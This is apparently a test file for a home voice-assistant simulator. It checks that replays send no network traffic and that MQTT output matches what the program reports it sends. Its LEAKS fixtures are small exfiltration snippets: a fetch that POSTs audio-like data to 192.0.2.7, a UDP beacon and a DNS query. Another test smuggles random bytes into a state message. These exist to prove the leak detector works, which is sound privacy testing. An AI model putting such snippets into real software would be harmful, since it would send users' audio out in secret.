import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { run } from '../host-sim/cli/command';
import { hasMosquitto } from '../host-sim/sim/mqtt/mosquitto';
import { type Message, messagesTo } from './mqtt-sent';
import { canBeApart, type Packet, sentBy } from './sent';

const testApart = canBeApart ? test : test.skip;
const testAtHome = canBeApart && hasMosquitto ? test : test.skip;
const REPLAY = ['host-sim/cli/run.mjs', 'replay', '--demo', '--json'];
const PORT = 18830;
let folder: string;

beforeAll(() => {
  folder = mkdtempSync(join(tmpdir(), 'earshot-broker-'));
});

afterAll(() => rmSync(folder, { recursive: true }));

testApart('a replay sends no packet, whatever it hears', () => {
  const { packets, out, code } = sentBy([process.execPath, ...REPLAY]);
  expect({ packets, code }).toEqual({ packets: [], code: 0 });
  expect(out.split('\n').filter((line) => line.startsWith('{'))).toEqual(run(REPLAY.slice(1)).lines);
});

/** Each is said by a program beside. */
const LEAKS = {
  'sound to a server':
    "fetch('http://192.0.2.7/', { method: 'POST', body: new Int16Array(800) }).catch(() => {});",
  'a beacon': "import('node:dgram').then((d) => d.createSocket('udp4').send('here', 9, '192.0.2.7'));",
  'a question for an address': "import('node:dns').then((dns) => dns.resolve4('example.org', () => {}));",
};

testApart.each(Object.entries(LEAKS))('%s is seen', (_, leak) => {
  const { packets } = sentBy([process.execPath, '--eval', `${leak} setTimeout(() => process.exit(), 300)`]);
  expect(packets.length).toBeGreaterThan(0);
  expect(packets.every(({ to }) => to !== '')).toBe(true);
});

/** A replay beside a broker, and `beside` after it. */
function atHome(beside: string): { packets: readonly Packet[]; events: readonly Told[] } {
  const replay = `node ${REPLAY.join(' ')} --mqtt mqtt://127.0.0.1:${PORT} --map models/home/maps/zigbee2mqtt.yaml`;
  // there is no other user apart, which it would like to become
  const settings = `listener ${PORT} 127.0.0.1\\nallow_anonymous true\\nuser root\\n`;
  const broker = `printf '${settings}' > $0/broker.conf; /usr/sbin/mosquitto -c $0/broker.conf 2>/dev/null &`;
  const script = `${broker} sleep 1; ${replay}; ${beside}; kill $!`;
  const { packets, out } = sentBy(['sh', '-c', script, folder]);
  const events = out.split('\n').flatMap((line) => (line.startsWith('{') ? [JSON.parse(line) as Told] : []));
  return { packets, events };
}

interface Told extends Partial<Message> {
  readonly type: string;
}

/** What of the messages the speaker has not said that it sends, or is more than a word of how it is. */
function unsaid(messages: readonly Message[], events: readonly Told[]): Message[] {
  const said = events
    .filter(({ type }) => type === 'messageSent')
    .map(({ topic, text }) => `${topic} ${text}`);
  return messages.filter(({ topic, text }) => {
    const isSaid = said.indexOf(`${topic} ${text}`);
    if (isSaid >= 0) return said.splice(isSaid, 1).length === 0;
    if (topic === 'homeassistant/device/earshot_simulator/config') return text.length > 8_000;
    return !/^earshot\/simulator\/(state\/\w+|availability)$/.test(topic) || !/^[\w:,./+-]{0,40}$/.test(text);
  });
}

testAtHome('with a broker it sends what it says that it sends, to the broker alone', () => {
  const { packets, events } = atHome('true');
  expect(packets.filter(({ port, from }) => port !== PORT && from !== PORT)).toEqual([]);
  const messages = messagesTo(PORT, packets);
  expect(messages.filter(({ topic }) => topic === 'zigbee2mqtt/kitchen/set')).toHaveLength(1);
  expect(unsaid(messages, events)).toEqual([]);
  const commands = events.filter(({ type }) => type === 'commandHeard').length;
  const states = messages.filter(({ topic }) => topic.includes('/state/')).length;
  expect(commands).toBe(4);
  expect(messages.length).toBeLessThan(20 + 8 * commands); // no sound fits into so few
  expect(states).toBeLessThan(messages.length);
});

testAtHome('sound in a message to the broker is found', () => {
  const { packets, events } = atHome(
    `head -c 300 /dev/urandom | base64 -w0 | mosquitto_pub -p ${PORT} -t earshot/simulator/state/volume -s`,
  );
  expect(unsaid(messagesTo(PORT, packets), events)).toHaveLength(1);
});
